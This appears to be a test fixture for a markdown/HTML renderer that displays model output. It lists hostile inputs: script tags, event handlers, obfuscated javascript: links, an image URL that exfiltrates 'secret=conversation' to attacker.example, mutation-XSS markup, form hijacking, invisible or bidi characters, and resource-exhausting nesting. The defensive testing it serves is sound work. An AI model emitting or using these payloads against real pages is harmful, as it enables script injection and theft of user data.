const away = 'https://attacker.example';
const run = 'window.ran=1';

/** Texts by which a model, or a page that it read, could try to act in the reader's browser. `shows` is what is to be read of it, `ends` what stands at its end. */
export const hostileTexts = [
  { name: 'a script', text: `<script>${run}</script><script src="${away}/a.js"></script>`, shows: run },
  { name: 'an event handler', text: `<img src=x onerror="${run}"><b onmouseover="${run}">hover</b>` },
  { name: 'handlers that need nobody', text: `<details open ontoggle="${run}">x</details><input autofocus onfocus="${run}"><body onload="${run}">` },
  { name: 'script addresses', text: `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java\nscript:${run}) <javascript:${run}>`, shows: 'a' },
  { name: 'encoded script addresses', text: `[a](&#106;avascript:${run}) [b](javascript&colon;${run}) [c](\u0001javascript:${run}) [d](java%0ascript:${run})` },
  { name: 'data and other addresses', text: `[a](data:text/html,<script>${run}</script>) [b](vbscript:${run}) [c](file:///etc/passwd) [d](blob:x) [e](intent://x) [f](//attacker.example/x)` },
  { name: 'an image', text: `![A cat](${away}/cat.png "title") ![][ref]\n\n[ref]: ${away}/dog.png`, shows: 'A cat' },
  { name: 'an image that carries words away', text: `![x](${away}/log?secret=conversation) ![y](//attacker.example/log) ![z](http:/\\attacker.example/z)` },
  { name: 'an image with a script for an address', text: `![x](javascript:${run}) ![y](data:image/svg+xml;base64,PHN2Zy8+)` },
  { name: 'a drawing', text: `<svg onload="${run}"><script>${run}</script><image href="${away}/i.png"/><use href="${away}/s.svg#a"/></svg>` },
  { name: 'frames and plugins', text: `<iframe src="${away}"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data="${away}"></object><embed src="${away}">` },
  { name: 'styles', text: `<style>@import '${away}/a.css'; body { background: url(${away}/b.png) }</style><p style="background:url(${away}/c.png);position:fixed;inset:0">x</p>` },
  { name: 'another base', text: `<base href="${away}/"> [here](page)` },
  { name: 'a page that leaves', text: `<meta http-equiv="refresh" content="0;url=${away}"><link rel="stylesheet" href="${away}/x.css"><link rel="prefetch" href="${away}/y">` },
  { name: 'a form', text: `<form action="${away}"><input name="password"><button formaction="javascript:${run}">Log in</button></form>` },
  { name: 'bare addresses', text: `${away}/auto www.attacker.example mail@attacker.example <${away}/angle> xmpp:a@attacker.example`, shows: `${away}/auto` },
  { name: 'entities', text: `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`, shows: `<script>${run}</script>` },
  { name: 'links in links', text: `[a [b](${away}/b) c](${away}/a) [![x](${away}/i.png)](javascript:${run}) [x]( ${away}/"onmouseover="${run} )` },
  { name: 'markup that changes when it is read again', text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">` },
  { name: 'markup in a comment, a template and a title', text: `<!--><img src=x onerror=${run}>--><template><img src=x onerror=${run}></template><noscript><p title="</noscript><img src=x onerror=${run}>">` },
  { name: 'names that hide those of the page', text: `<a id="root" name="root" class="hostile">x</a><form id="location"></form> text[^root]\n\n[^root]: A note.\n[^__proto__]: Another.` },
  { name: 'text that turns around', text: 'Open \u202Egpj.exe\u202C and \u2066x\u2069 and \u200Fy', shows: /Open/ },
  { name: 'letters that are not seen', text: `[bank\u200B.example](https://bank\u200B.example/\u2060) zero\u200Bwidth\uFEFF \u0000 \u001B[31mred`, shows: /zero/ },
  { name: 'code that ends its fence', text: `\`\`\`html" onmouseover="${run}\n</code></pre><script>${run}</script>\n\`\`\`\n\n~~~<img src=x onerror=${run}>\ncode\n~~~` },
  { name: 'a table without end', text: `|${' a |'.repeat(400)}\n|${'---|'.repeat(400)}\n${`|${` <img src=x onerror=${run}> |`.repeat(20)}\n`.repeat(40)}` },
  { name: 'nesting without end', text: `${'> '.repeat(5_000)}deep\n\n${'- '.repeat(5_000)}deep\n\n${'['.repeat(20_000)}\n\n${'*a **b '.repeat(8_000)}` },
  { name: 'a line without end', text: 'x'.repeat(1_000_000), ends: 'Show all 1,000,022 characters' },
  { name: 'emphasis and brackets that take long to read', text: `${'_'.repeat(5_000)}a${'*'.repeat(5_000)}\n\n${'![[]()'.repeat(3_000)}\n\n${'<a href="'.repeat(3_000)}\n\n${'`a``b'.repeat(3_000)}` },
];
